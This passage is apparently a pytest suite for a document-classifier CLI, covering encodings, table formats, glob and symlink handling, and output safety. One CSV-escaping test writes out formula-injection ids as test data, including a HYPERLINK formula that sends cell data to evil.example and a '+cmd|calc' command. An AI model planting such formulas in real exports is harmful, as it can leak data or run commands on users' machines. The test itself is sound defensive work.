"""Bulk classification: every input kind, every bad input, one row per document, in order."""

import codecs
import copy
import csv
import glob
import io
import itertools
import json
import math
import os
import signal
from pathlib import Path
from typing import get_args

import numpy as np
import pytest
import torch
from helpers import LONG, lead_weights, write_every_input_kind

import docclass
from docclass.cli import main, run_command
from docclass.data.sources import decode_text
from docclass.errors import CheckpointError, ConfigError
from docclass.inference.classifier import WordScoreMethod
from docclass.inference.classify import (
    NOT_UTF8,
    ROW_BAD_BYTES,
    check_out_is_not_an_input,
    decode_document,
    pattern_matches,
    read_inputs,
)
from docclass.interpret.default_method import default_method
from docclass.interpret.inputs import encode_documents
from docclass.interpret.records import RECORD_METHODS


@pytest.fixture(scope="module")
def inputs(tmp_path_factory) -> Path:
    return write_every_input_kind(tmp_path_factory.mktemp("inputs"))


EXPECTED = [  # (id suffix, outcome) in input order for ARGUMENTS below
    ("folder/a.txt", "ok"),
    ("folder/nested/b.txt", "ok"),
    ("empty.txt", "empty document"),
    ("latin1.txt", "ok+warning"),
    ("binary.bin", "binary file"),
    ("long.txt", "ok+truncated"),
    ("rows.csv:1", "ok"),
    ("rows.csv:2", "empty document"),
    ("rows.jsonl:1", "ok"),
    ("rows.jsonl:2", "; set --text_column"),  # the flag as the parser spells it
    ("rows.parquet:1", "ok"),
    ("rows.parquet:2", "no 'body' value"),
    ("missing.txt", "no such file"),
    ("*.nothing", "no file matches"),
    ("stdin:1", "ok"),
    ("stdin:2", "empty document"),
]


def arguments(root: Path) -> list[str]:
    names = ["folder", "empty.txt", "latin1.txt", "binary.bin", "long.txt", "rows.*",
             "missing.txt", "*.nothing"]  # fmt: skip
    return [str(root / name) for name in names] + ["-"]


def run_classify(monkeypatch, capsys, ckpt, args, stdin="Apple launches iPod\n\n"):
    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    main(["classify", "--ckpt", str(ckpt), "--text_column", "body", *args])
    captured = capsys.readouterr()
    return captured.out, captured.err


@pytest.fixture(scope="module")
def ckpt(fitted) -> Path:
    return fitted / "checkpoints" / "last.ckpt"


def check_rows(rows: list[dict]) -> None:
    assert len(rows) == len(EXPECTED)
    for row, (suffix, outcome) in zip(rows, EXPECTED, strict=True):
        assert row["id"].endswith(suffix), (row["id"], suffix)
        if outcome.startswith("ok"):
            assert row["label"] and not row.get("error"), row
            assert abs(sum(float(p) for p in row["probs"].values()) - 1) < 1e-4
        else:
            assert not row["label"] and outcome in row["error"], row
        assert ("warning" in outcome) == bool(row.get("warning"))
        assert ("truncated" in outcome) == (str(row.get("truncated")) in ("True", "true"))


@pytest.mark.fault(
    "classify: a text file that is not UTF-8 (Windows-1252, UTF-16)",
    "read as training reads a class folder's files, with a `warning`; never U+FFFD where "
    "training saw the letter, and a UTF-16 file is text, not binary",
)
def test_a_file_that_is_not_utf8_reads_as_training_reads_it():
    for raw, text in (
        ("Chelsea pay £5m".encode("cp1252"), "Chelsea pay £5m"),
        ("Chelsea pay £5m".encode("utf-16"), "Chelsea pay £5m"),
        ("Καλημέρα ".encode() + b"\x93x\x94", "Καλημέρα “x”"),
    ):
        assert decode_text(raw) == (text, True)
        assert decode_document(raw) == (text, None, NOT_UTF8)
    assert decode_document("café".encode()) == ("café", None, None)
    assert decode_document(b"a\x00b")[1] == "binary file (NUL bytes): not a text document"


@pytest.mark.fault(
    "classify: a binary file that begins with the bytes of a UTF-16 mark (FF FE, FE FF)",
    "an error row (binary file), not its bytes read as UTF-16 text and classified",
)
def test_a_binary_file_that_starts_like_utf16_is_not_text():
    noise = np.random.default_rng(0).integers(0, 256, 4096, dtype=np.uint8).tobytes()
    for mark in (b"\xff\xfe", b"\xfe\xff"):
        for binary in (mark + noise, mark + b"\x00" * 64 + b"header"):
            text, error, _ = decode_document(binary)
            assert text is None and error.startswith("binary file"), binary[:8]
    # Binary after a page of text is looked at too, with a mark and without one (a header's
    # NUL bytes; noise alone after a long page forms too few broken units to tell).
    page = ("A page of real text. " * 500).encode("utf-16")
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    for binary in (page + header + noise, b"plain text " * 1000 + header + noise):
        assert decode_document(binary)[1].startswith("binary file"), len(binary)
    # Real UTF-16 and UTF-32 text, in any script, stays text.
    for codec in ("utf-16", "utf-16-be", "utf-32"):
        raw = ("Καλημέρα, 你好, café 🎉 " * 50).encode(codec)
        raw = raw if codec != "utf-16-be" else b"\xfe\xff" + raw
        assert decode_document(raw)[1] is None, codec
    assert decode_document("short".encode("utf-16") + b"!")[0] == "short\ufffd"  # cut short
    # A U+FFFD the text itself holds is a character, not a unit that formed none.
    for text in ("Preis: \ufffd EUR", "ok \ufffd\ufffd", "\ufffd" * 50 + "x" * 50):
        assert decode_document(text.encode("utf-16"))[0] == text


@pytest.mark.fault(
    "classify: empty or whitespace-only document, non-UTF-8 file, binary file, "
    "document longer than the model reads, table row without its text column",
    "one output row each, in input order: `error` (empty, binary, missing column), "
    "`warning` (not UTF-8), `truncated: true`; the run goes on",
)
def test_every_input_kind_and_bad_input_gets_one_row_in_order(monkeypatch, capsys, ckpt, inputs):
    out, err = run_classify(monkeypatch, capsys, ckpt, [*arguments(inputs), "--top_words", "2"])
    rows = [json.loads(line) for line in out.splitlines()]
    check_rows(rows)
    assert "classified 8 of 16 documents (8 errors, 1 warnings, 1 truncated)" in err
    latin = rows[3]
    assert "Windows-1252" in latin["warning"]
    top = rows[0]["top_words"]
    text = (inputs / "folder" / "a.txt").read_text()
    assert len(top) == 2 and all(text[w["start"] : w["end"]] == w["word"] for w in top)


def test_table_rows_keep_their_own_ids(monkeypatch, capsys, ckpt, tmp_path):
    table = tmp_path / "named.csv"
    table.write_text("id,body\nA-17,Shares rose after profits.\n,Film wins award.\n")
    out, _ = run_classify(monkeypatch, capsys, ckpt, [str(table)])
    ids = [json.loads(line)["id"] for line in out.splitlines()]
    assert ids == ["A-17", f"{table}:2"]  # an empty id falls back to the row number


@pytest.mark.fault(
    "classify with options that change nothing in the call (`--method` without `--top_words`, "
    "`--workers` without `--engine ray`)",
    "one warning naming them; the rows are classified as without them",
)
def test_options_that_change_nothing_are_said(monkeypatch, capsys, caplog, ckpt):
    plain, _ = run_classify(monkeypatch, capsys, ckpt, ["-"])
    with caplog.at_level("WARNING", logger="docclass"):
        given, _ = run_classify(
            monkeypatch, capsys, ckpt, ["-", "--method", "attention", "--workers", "4"]
        )
    assert given == plain
    assert "--method, --workers not used" in caplog.text
    caplog.clear()
    with caplog.at_level("WARNING", logger="docclass"):
        run_classify(monkeypatch, capsys, ckpt, ["-", "--method", "attention", "--top_words", "2"])
    assert "not used" not in caplog.text


@pytest.mark.fault(
    "file names that are not UTF-8 (`caf\\xe9.txt`, `caf\\xe8.txt`), written to JSON Lines or CSV",
    "each classified under its name with the bad byte spelt out, two names two ids (a lone "
    "surrogate in the id ended the whole run with UnicodeEncodeError)",
)
def test_file_names_that_are_not_utf8_are_classified_under_printable_ids(
    monkeypatch, capsys, ckpt, tmp_path
):
    folder = tmp_path / "docs"
    folder.mkdir()
    for byte in (b"\xe9", b"\xe8"):
        Path(os.fsdecode(bytes(folder) + b"/caf" + byte + b".txt")).write_text("Shares rose.")
    for out in ("out.jsonl", "out.csv"):
        run_classify(monkeypatch, capsys, ckpt, [str(folder), "--out", str(tmp_path / out)])
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    expected = [f"{folder}/caf\\xe8.txt", f"{folder}/caf\\xe9.txt"]
    assert [row["id"] for row in rows] == expected and all(row["label"] for row in rows)
    with open(tmp_path / "out.csv", newline="") as handle:
        assert [row["id"] for row in csv.DictReader(handle)] == expected


@pytest.mark.fault(
    "an input id that a spreadsheet runs as a formula (`=HYPERLINK(…)`, `+cmd|…`, `-2+3`, "
    "`@SUM(…)`), written to CSV",
    "written as text, with `'` in front; JSON Lines keeps it as it is",
)
def test_csv_output_never_holds_a_cell_a_spreadsheet_runs(monkeypatch, capsys, ckpt, tmp_path):
    ids = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|calc!A0", "-2+3", "@SUM(A1)"]
    # Quoted too, so that one leading ' stripped gives every id back: it and "=X" were one cell.
    ids += ["'=X", "'quoted"]
    numbers = ["-1", "+0.5", "-2e3"]  # values, not formulas: kept as they are
    table = tmp_path / "in.jsonl"
    rows = [*ids, *numbers]
    table.write_text("".join(json.dumps({"id": i, "body": "Shares rose."}) + "\n" for i in rows))
    for out in ("out.csv", "out.jsonl"):
        run_classify(monkeypatch, capsys, ckpt, [str(table), "--out", str(tmp_path / out)])
    with open(tmp_path / "out.csv", newline="") as handle:
        assert [row["id"] for row in csv.DictReader(handle)] == [f"'{i}" for i in ids] + numbers
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    assert [json.loads(line)["id"] for line in lines] == rows


def test_csv_output_parses_with_a_column_per_class(monkeypatch, capsys, ckpt, inputs, tmp_path):
    out_file = tmp_path / "out.csv"
    run_classify(monkeypatch, capsys, ckpt, [*arguments(inputs), "--out", str(out_file)])
    with open(out_file, newline="") as handle:
        rows = list(csv.DictReader(handle))
    labels = docclass.DocClassifier.load(ckpt, "cpu").labels
    for row in rows:
        row["probs"] = {n: row[f"prob_{n}"] for n in labels} if row["label"] else {}
    check_rows(rows)


@pytest.mark.fault(
    "classify `--strict` with a bad document among good ones",
    "every row written, then exit status 1",
)
def test_strict_exits_nonzero_when_any_document_failed(monkeypatch, capsys, ckpt, inputs):
    with pytest.raises(SystemExit) as exit_info:
        run_classify(monkeypatch, capsys, ckpt, ["--strict", "true", str(inputs / "empty.txt")])
    assert exit_info.value.code == 1
    # No error among these: status 0.
    run_classify(monkeypatch, capsys, ckpt, ["--strict", "true", str(inputs / "folder")])


@pytest.mark.fault(
    "classify: a file that cannot be read",
    "an `error` row naming the cause; the run goes on",
)
def test_unreadable_file_gets_an_error_row(monkeypatch, inputs):
    # Tests run as root, for whom permissions never fail: the OS error is simulated here.
    original = Path.read_bytes

    def read_bytes(self):
        if self.name == "a.txt":
            raise PermissionError(13, "Permission denied")
        return original(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    rows = list(read_inputs([str(inputs / "folder")]))
    assert rows[0].error == "cannot read: Permission denied" and rows[1].text


def test_python_api_equals_the_command_line(monkeypatch, capsys, ckpt, inputs):
    texts = ["Shares rose after profits beat forecasts.", "Film wins award at festival.", LONG]
    stdin = "\n".join(texts) + "\n"
    out, _ = run_classify(monkeypatch, capsys, ckpt, ["-"], stdin=stdin)
    from_cli = [json.loads(line) for line in out.splitlines()]
    clf = docclass.DocClassifier.load(ckpt, device="cpu")
    from_api = clf.predict(texts, batch_size=2)
    assert [{k: v for k, v in row.items() if k != "id"} for row in from_cli] == from_api
    assert set(from_api[0]) == {"label", "score", "probs", "truncated"}
    assert from_api[2]["truncated"] and clf.max_tokens == 64
    assert clf.predict("Shares rose.")[0]["label"] in clf.labels


def test_explain_gives_the_report_record(ckpt):
    clf = docclass.DocClassifier.load(ckpt, device="cpu")
    record = clf.explain("Shares rose after profits beat forecasts.")
    assert (
        record["predicted"] == clf.predict("Shares rose after profits beat forecasts.")[0]["label"]
    )
    assert record["words"][0] == "Shares" and "contribution" in record["scores"]


def test_api_calls_offer_every_method_a_record_holds():
    assert get_args(WordScoreMethod) == RECORD_METHODS


def frozen_norms_and_gates(model: torch.nn.Module, ids, mask) -> list:
    """Forward hooks (returned, to remove) with which every LayerNorm divides by, and every
    GELU gates with, the ``σ`` and ``Φ(x)`` of the unperturbed pass: the function whose
    derivative gradient × input's rule takes (LayerNorm scales and GELU gates held, attention
    free)."""
    recorded = {}

    def record(module, args, output):
        x = args[0]
        if isinstance(module, torch.nn.LayerNorm):
            centred = x - x.mean(dim=-1, keepdim=True)
            recorded[module] = (centred.pow(2).mean(dim=-1, keepdim=True) + module.eps).sqrt()
        else:
            recorded[module] = 0.5 * (1 + torch.erf(x / math.sqrt(2)))

    def replay(module, args, output):
        x = args[0]
        if isinstance(module, torch.nn.LayerNorm):
            centred = x - x.mean(dim=-1, keepdim=True)
            return centred / recorded[module] * module.weight + module.bias
        return x * recorded[module]

    layers = [m for m in model.modules() if isinstance(m, torch.nn.LayerNorm | torch.nn.GELU)]
    handles = [layer.register_forward_hook(record) for layer in layers]
    model(ids, mask)
    for handle in handles:
        handle.remove()
    return [layer.register_forward_hook(replay) for layer in layers]


def reference_word_scores(clf, text: str, method: str) -> np.ndarray:
    """Rollout and gradient × input per word, computed without the scoring pass: rollout as
    explicit matrix products, gradient × input by central finite differences, in float64, of
    the predicted class's lead over its rivals (its logit minus theirs averaged by their
    probabilities renormalised among them) with every LayerNorm's scale and GELU gate, and
    the rivals' weights, fixed at the unperturbed pass's values (the rule holds them
    constant)."""
    document = encode_documents(clf.trained.tokenizer, [text], clf.trained.max_tokens)[0]
    ids = torch.tensor([document.token_ids])
    mask = torch.ones_like(ids, dtype=torch.bool)
    model = copy.deepcopy(clf.trained.model).double().eval()
    with torch.no_grad():
        out = model(ids, mask, need_layer_weights=True)
        if method == "rollout":
            # pool attention · Â_L ··· Â_1, with Â = ½·(attention averaged over heads) + ½·I.
            flow = out.pool_weights[0].mean(dim=0)  # (T,)
            identity = torch.eye(len(flow), dtype=flow.dtype)
            for weights in reversed(out.layer_weights):
                flow = flow @ (0.5 * weights[0].mean(dim=0) + 0.5 * identity)
            tokens = flow.numpy()
        else:
            # ∂lead/∂(word vector t) · (word vector t) = d/dε lead(word vector t × (1 + ε)).
            predicted = int(out.logits.argmax())
            weights = lead_weights(out.logits, torch.tensor([predicted]))[0]
            words = model.token_vectors(ids)
            frozen = frozen_norms_and_gates(model, ids, mask)
            assert frozen  # the tiny model has LayerNorms and a GELU: the rule matters here

            def lead(token: int, scale: float) -> float:
                vectors = words.clone()
                vectors[0, token] *= scale
                logits = model(ids, mask, token_vectors=vectors).logits[0]
                return float((weights * logits).sum())

            step = 1e-5
            tokens = np.array(
                [(lead(t, 1 + step) - lead(t, 1 - step)) / (2 * step) for t in range(len(ids[0]))]
            )
            for handle in frozen:
                handle.remove()
    return np.bincount(document.token_words, weights=tokens)


@pytest.mark.parametrize("method", RECORD_METHODS)
def test_word_scores_match_the_reports_record(ckpt, method):
    """Two code paths (predict's per-word sums, explain's) must give the same words and scores,
    for every method an API call may ask for; rollout and gradient × input, which both paths
    take from the same scoring pass, must also match a computation of their own."""
    clf = docclass.DocClassifier.load(ckpt, device="cpu")
    texts = ["Shares rose after profits beat forecasts; the bank's chief said so.", LONG]
    results = clf.predict(texts, word_scores=True, top_words=3, method=method)
    for text, result in zip(texts, results, strict=True):
        record = clf.explain(text)
        read = record["words_read"]
        assert result["method"] == method
        assert result["words"] == record["words"][:read]
        assert [text[s:e] for s, e in result["spans"]] == result["words"]
        assert result["scores"] == pytest.approx(record["scores"][method][:read], abs=1e-5)
        if method in ("rollout", "grad_input"):
            expected = reference_word_scores(clf, text, method)
            assert result["scores"] == pytest.approx(expected.tolist(), rel=1e-4, abs=1e-5)
        best = max(range(len(result["scores"])), key=result["scores"].__getitem__)
        assert result["top_words"][0]["word"] == result["words"][best]
    assert results[1]["truncated"] and len(results[1]["words"]) < len(LONG.split())


def test_word_scores_default_to_the_method_the_models_report_trusts(ckpt, tmp_path):
    """The default is the run's own faithfulness verdict, not a fixed method."""
    clf = docclass.DocClassifier.load(ckpt, device="cpu")
    table = json.loads((ckpt.parents[1] / "report" / "report.json").read_text())["faithfulness"]
    assert clf.default_method == default_method(table["methods"], table["documents"]).method
    result = clf.predict("Shares rose after profits beat forecasts.", word_scores=True)[0]
    assert result["method"] == clf.default_method
    # Without a measured table, conservative propagation, saying so.
    bare = docclass.DocClassifier(clf.trained, device="cpu")
    assert bare.default_method == "conservative" and "not measured" in bare.default_reason
    with pytest.raises(ConfigError, match="method 'lime'"):
        clf.predict("text", word_scores=True, method="lime")
    # The command line checks these; the API took -2 top words as every word but two.
    for bad in ({"top_words": -2}, {"batch_size": 0}, {"batch_size": 2.5}, {"top_words": True}):
        with pytest.raises(ConfigError, match=f"{next(iter(bad))} .*: give a whole number"):
            clf.predict("text", **bad)


@pytest.mark.fault(
    "classify / Python API: missing, truncated, corrupted or foreign checkpoint",
    "one line (`docclass: error: …`), exit status 2",
)
def test_bad_checkpoints_are_one_line(capsys, tmp_path, ckpt):
    broken = tmp_path / "broken.ckpt"
    broken.write_bytes(ckpt.read_bytes()[:1000])
    for path, message in ((tmp_path / "none.ckpt", "no such file or folder"),
                          (broken, "not a loadable checkpoint")):  # fmt: skip
        with pytest.raises(SystemExit) as exit_info:
            main(["classify", "--ckpt", str(path), "-"])
        assert exit_info.value.code == 2
        line = capsys.readouterr().err.strip().splitlines()[-1]
        assert line.startswith("docclass: error:") and message in line
    with pytest.raises(CheckpointError):
        docclass.DocClassifier.load(broken)


@pytest.mark.fault(
    "classify: a CSV field longer than the csv module's default limit, or a row it cannot "
    "parse, amid good rows",
    "the long row is read whole; an unparsable row gets an `error` row and the rows after it "
    "are read",
)
def test_no_csv_row_is_lost_to_a_long_field_or_a_bad_row(monkeypatch, tmp_path):
    table = tmp_path / "rows.csv"
    long_text = "word " * 40_000  # 200,000 characters: past the csv module's 131,072
    table.write_text(f"id,text\na,short one\nb,{long_text}\nc,after it\n")
    limit = csv.field_size_limit()
    try:
        csv.field_size_limit(131_072)  # the module's default, as a fresh process has it
        rows = list(read_inputs([str(table)]))
        # A row the parser refuses (here: over a lowered limit) is one error row; reading goes
        # on.
        csv.field_size_limit(100)
        monkeypatch.setattr("docclass.inference.classify.CSV_FIELD_LIMIT", 100)
        refused = list(read_inputs([str(table)]))
    finally:
        csv.field_size_limit(limit)
    assert [r.id for r in rows] == ["a", "b", "c"]
    assert rows[1].text == long_text and not any(r.error for r in rows)
    rows = refused
    assert [r.id for r in rows] == ["a", f"{table}:2", "c"]
    assert "field larger than field limit" in rows[1].error and rows[2].text == "after it"


@pytest.mark.fault(
    "classify: a CSV or JSON Lines table with a byte-order mark (as spreadsheets write), or "
    "with bad bytes in a row",
    "the table's own ids kept; the row with bad bytes classified after U+FFFD replaces them, "
    "with a `warning`",
)
def test_tables_with_a_byte_order_mark_or_bad_bytes_keep_ids_and_say_so(tmp_path):
    csv_table, jsonl_table = tmp_path / "excel.csv", tmp_path / "rows.jsonl"
    csv_table.write_bytes(  # Latin-1 bytes in a row's text, in the header and in another field
        codecs.BOM_UTF8 + b"id,text,n\xe9\nA-1,clean row,1\nA-2,caf\xe9 \xa35m,2\nA-3,ok,\xe9\n"
    )
    jsonl_table.write_bytes(
        codecs.BOM_UTF8 + b'{"id": "J-1", "text": "clean"}\n{"id": "J-2", "text": "\xa35m"}\n'
    )
    rows = list(read_inputs([str(csv_table), str(jsonl_table)]))
    assert [r.id for r in rows] == ["A-1", "A-2", "A-3", "J-1", "J-2"]  # the mark: not in "id"
    assert [bool(r.warning) for r in rows] == [False, True, True, False, True]
    assert rows[1].text == "caf\ufffd \ufffd5m" and "U+FFFD" in rows[1].warning
    assert rows[4].text == "\ufffd5m" and not any(r.error for r in rows)


@pytest.mark.fault(
    "classify: a `.json` or `.tsv` table, or JSON Lines named `.ndjson`",
    "`.ndjson` read row by row as JSON Lines; `.json` and `.tsv` one error row naming the "
    "formats read (a JSON array of 50 records came back as one labelled document, the other "
    "49 with no row)",
)
def test_tables_in_formats_classify_does_not_read_get_an_error_row(tmp_path):
    array, tsv, lines = tmp_path / "docs.json", tmp_path / "t.tsv", tmp_path / "rows.ndjson"
    array.write_text(json.dumps([{"id": f"J-{i}", "text": f"article {i}"} for i in range(5)]))
    tsv.write_text("id\ttext\nT-1\tone\nT-2\ttwo\n")
    lines.write_text('{"id": "N-1", "text": "one"}\n{"id": "N-2", "text": "two"}\n')
    rows = list(read_inputs([str(array), str(tsv), str(lines)]))
    assert [r.id for r in rows] == [str(array), str(tsv), "N-1", "N-2"]
    assert all(".csv, .jsonl (.ndjson) or .parquet" in r.error and r.text is None for r in rows[:2])
    assert [r.text for r in rows[2:]] == ["one", "two"] and not any(r.error for r in rows[2:])


@pytest.mark.fault(
    "classify: a table whose text column holds bytes (a Parquet binary column), a number, a "
    "list or an object",
    "bytes decoded as a file is (Windows-1252 with a `warning`); anything else an error row "
    "naming the column, never its Python spelling classified",
)
def test_a_text_cell_that_is_not_a_string_is_decoded_or_refused_never_spelled(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    binary, jsonl = tmp_path / "spark.parquet", tmp_path / "rows.jsonl"
    texts = ["Café prices rose".encode(), "Caf\xe9 \xa35m".encode("latin-1")]
    pq.write_table(pa.table({"id": ["P-1", "P-2"], "text": pa.array(texts, pa.binary())}), binary)
    cells = [12345, ["Shares", "rose"], {"text": "nested"}, True, "plain"]
    jsonl.write_text("".join(json.dumps({"id": f"J-{n}", "text": c}) + "\n"
                             for n, c in enumerate(cells)))  # fmt: skip
    rows = list(read_inputs([str(binary), str(jsonl)]))
    assert [r.id for r in rows] == ["P-1", "P-2", "J-0", "J-1", "J-2", "J-3", "J-4"]
    assert rows[0].text == "Café prices rose" and not rows[0].warning and not rows[0].error
    assert rows[1].text == "Café £5m" and rows[1].warning == NOT_UTF8
    for row, kind in zip(rows[2:6], ["int", "list", "dict", "bool"], strict=True):
        assert row.text is None and f"'text' value is a {kind}, not text" in row.error
    assert rows[6].text == "plain" and rows[6].error is None


@pytest.mark.fault(
    "classify: a recursive pattern (`data/**`) that matches a folder and the files in it",
    "each file read once",
)
def test_a_recursive_pattern_names_each_file_once(tmp_path):
    (tmp_path / "data" / "sub").mkdir(parents=True)
    (tmp_path / "data" / "a.txt").write_text("one")
    (tmp_path / "data" / "sub" / "b.txt").write_text("two")
    (tmp_path / "data" / "link.txt").symlink_to(tmp_path / "data" / "a.txt")
    rows = list(read_inputs([str(tmp_path / "data" / "**")]))
    # A link is a name of its own, as in a folder argument.
    assert sorted(Path(r.id).name for r in rows) == ["a.txt", "b.txt", "link.txt"]


def test_a_pattern_names_what_python_s_glob_names_where_no_link_leads_back_up(
    tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    for name in (
        "docs/a.txt", "docs/.hid.txt", "docs/.hdir/x.txt", "docs/sub/b.txt", "docs/sub/.cfg/c.txt",
        "docs/sub/deep/d.txt", "outside/e.txt", "top.txt", "data1/f.txt", "data2/g.txt",
        "x[1]/h.txt", ".top/j.txt", "docs/.versions/v3/k.txt",
    ):  # fmt: skip
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("text")
    links = {
        "docs/alias": "sub",
        "docs/ext": "../outside",
        "docs/flink.txt": "a.txt",
        "docs/broken": "nowhere",
        "docs/current": ".versions/v3",
        "top-link.txt": "top.txt",
    }
    for link, target in links.items():
        (tmp_path / link).symlink_to(target)
    patterns = [
        "docs/**", "docs/**/*.txt", "docs/**/", "./docs/**/*.txt", "**", "**/*.txt", "*/**",
        "d*/**", "d*/**/*.txt", "data[12]/**", "docs/**/.*", "docs/**/.cfg/*", "docs/.hdir/**",
        "docs/sub/../**", "docs/**/../a.txt", "docs//**", "docs/./**", "docs/**/**", "**/sub/**",
        "docs/*/**", "docs/a*/**", "docs/**/alias/*.txt", "x[[]1]/**", ".t*/**",
        "docs/**/*.txt/", "docs/**/b.txt", "docs/c*/**", "docs/current/**", "no*/**",
        "docs/**/*.txt/.", "docs/**/.", "docs/**/a.txt/.",
    ]  # fmt: skip
    for pattern in [*patterns, str(tmp_path / "d*" / "**" / "*.txt")]:
        normal = lambda paths: sorted({os.path.normpath(path) for path in paths})  # noqa: E731
        expected = normal(glob.glob(pattern, recursive=True))
        assert normal(pattern_matches(pattern)) == expected, pattern


@pytest.mark.fault(
    "classify: a recursive pattern (`'docs/**'`, quoted so the shell leaves it) over folders "
    "that link back up",
    "each file read once, by its own name (Python's glob followed the links round: one link "
    "named each file 40 times, two never ended)",
)
def test_a_recursive_pattern_over_links_back_up_ends_and_reads_each_file_once(tmp_path):
    docs = tmp_path / "docs"
    (docs / "sub").mkdir(parents=True)
    (docs / "a.txt").write_text("one")
    (docs / "sub" / "b.txt").write_text("two")
    (docs / "sub" / "up").symlink_to(docs)
    expected = [str(docs / "a.txt"), str(docs / "sub" / "b.txt")]
    for pattern in ("**", "**/*.txt", "sub/**"):
        named = [r.id for r in read_inputs([str(docs / pattern)])]
        assert named == (expected[1:] if pattern == "sub/**" else expected), pattern
    (docs / "sub" / "up-again").symlink_to(docs)  # two ways round: 2**40 paths to Python's glob
    assert [r.id for r in read_inputs([str(docs / "**" / "*.txt")])] == expected
    # Five folders, each linking to the four others: every path through them was a name to
    # glob (thousands). A folder is entered through one link at most: the first, in order
    # (n0 itself is first reached through n1's link).
    for number in range(5):
        (tmp_path / "ring" / f"n{number}").mkdir(parents=True)
        (tmp_path / "ring" / f"n{number}" / "f.txt").write_text(f"folder {number}")
    for number, other in itertools.permutations(range(5), 2):
        (tmp_path / "ring" / f"n{number}" / f"to-{other}").symlink_to(f"../n{other}")
    named = pattern_matches(str(tmp_path / "ring" / "**" / "*.txt"))
    assert [os.path.relpath(name, tmp_path / "ring") for name in named] == [
        "n0/f.txt", *(f"n0/to-{other}/f.txt" for other in range(1, 5)), "n1/f.txt",
        "n1/to-0/f.txt", "n2/f.txt", "n3/f.txt", "n4/f.txt",
    ]  # fmt: skip
    with pytest.raises(ConfigError, match="inside the input"):
        check_out_is_not_an_input(str(docs / "sub" / "new" / "out.csv"), [str(docs / "**")])


@pytest.mark.fault(
    "classify `--out` naming one of the inputs, or a file inside an input folder",
    "one line (`docclass: error: …`), exit status 2, before anything is read or written",
)
def test_out_among_the_inputs_is_refused_and_the_input_kept(capsys, ckpt, tmp_path):
    table = tmp_path / "docs.csv"
    table.write_text("id,text\n1,Shares rose.\n")
    for out, argument in ((table, table), (tmp_path / "labels.csv", tmp_path)):
        with pytest.raises(SystemExit) as exit_info:
            main(["classify", "--ckpt", str(ckpt), str(argument), "--out", str(out)])
        assert exit_info.value.code == 2
        line = capsys.readouterr().err.strip().splitlines()[-1]
        assert line.startswith("docclass: error:") and "outside the inputs" in line
    assert table.read_text() == "id,text\n1,Shares rose.\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["docs.csv"]


@pytest.mark.fault(
    "classify --out: a run stopped part-way",
    "no output file: rows go to a hidden partial file, renamed when every row is in (removed "
    "when an error stops the run)",
)
def test_a_run_that_stops_leaves_no_output_that_looks_finished(monkeypatch, ckpt, tmp_path):
    table, out = tmp_path / "in" / "docs.csv", tmp_path / "out" / "labels.csv"
    table.parent.mkdir()
    table.write_text("id,text\n1,Shares rose.\n2,Film wins award.\n")
    main(["classify", "--ckpt", str(ckpt), str(table), "--out", str(out)])
    assert len(list(csv.DictReader(out.open()))) == 2
    assert sorted(p.name for p in out.parent.iterdir()) == ["labels.csv"]  # no partial left
    out.unlink()
    written = []

    def write_then_fail(self, row):
        written.append(row)
        if len(written) == 2:
            raise RuntimeError("stopped mid-run")

    monkeypatch.setattr("docclass.inference.classify.RowWriter.write", write_then_fail)
    with pytest.raises(RuntimeError, match="stopped mid-run"):
        main(["classify", "--ckpt", str(ckpt), str(table), "--out", str(out)])
    assert written and not any(out.parent.iterdir())


def test_an_output_folder_or_file_among_the_inputs_is_named_in_the_refusal(tmp_path):
    """What both engines check first (the Ray engine's --out is a folder of parts)."""
    from docclass.inference.classify import check_out_is_not_an_input

    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "a.csv").write_text("text\nx\n")
    refused = [  # (out, inputs)
        (tmp_path / "docs" / "parts", [str(tmp_path / "docs")]),
        (tmp_path / "docs" / "a.csv", [str(tmp_path / "*" / "*.csv")]),
        (tmp_path / "docs" / "parts", [str(tmp_path / "d*")]),
    ]
    for out, inputs in refused:
        with pytest.raises(ConfigError, match="write the output outside the inputs"):
            check_out_is_not_an_input(str(out), inputs)
    check_out_is_not_an_input(str(tmp_path / "parts"), [str(tmp_path / "docs"), "-"])
    check_out_is_not_an_input(str(tmp_path / "b.csv"), [str(tmp_path / "docs" / "*.csv")])


def test_a_pipe_as_out_gets_the_rows_as_they_come_and_stays_a_pipe(ckpt, tmp_path):
    import os
    import stat
    import threading

    table, pipe = tmp_path / "docs.csv", tmp_path / "pipe.jsonl"
    table.write_text("id,text\n1,Shares rose.\n2,Film wins award.\n")
    os.mkfifo(pipe)
    received = []
    reader = threading.Thread(
        target=lambda: received.extend(pipe.open().read().splitlines()), daemon=True
    )
    reader.start()
    main(["classify", "--ckpt", str(ckpt), str(table), "--out", str(pipe)])
    reader.join(timeout=30)
    assert [json.loads(line)["id"] for line in received] == ["1", "2"]
    assert stat.S_ISFIFO(pipe.stat().st_mode) and sorted(os.listdir(tmp_path)) == [
        "docs.csv",
        "pipe.jsonl",
    ]


def test_a_link_as_out_is_written_through_and_kept(ckpt, tmp_path):
    """As ``--out /dev/stdout`` is when standard output is redirected to a file."""
    table, target, link = tmp_path / "docs.csv", tmp_path / "rows.jsonl", tmp_path / "out.jsonl"
    table.write_text("id,text\n1,Shares rose.\n")
    target.write_text("")
    link.symlink_to(target)
    main(["classify", "--ckpt", str(ckpt), str(table), "--out", str(link)])
    assert link.is_symlink() and json.loads(target.read_text())["id"] == "1"


def test_dev_stdout_as_out_is_the_output_stream_not_a_file_opened_anew(capsys, ckpt, tmp_path):
    """Opened anew it would be truncated: `classify --out /dev/stdout >> log` would lose the
    log's earlier lines."""
    table = tmp_path / "docs.csv"
    table.write_text("id,text\n1,Shares rose.\n")
    main(["classify", "--ckpt", str(ckpt), str(table), "--out", "/dev/stdout"])
    assert json.loads(capsys.readouterr().out)["id"] == "1"


@pytest.mark.fault(
    "classify: a CSV row with a stray quote, a quote that never closes, an unquoted comma in "
    "its text, or a blank line in a one-column file",
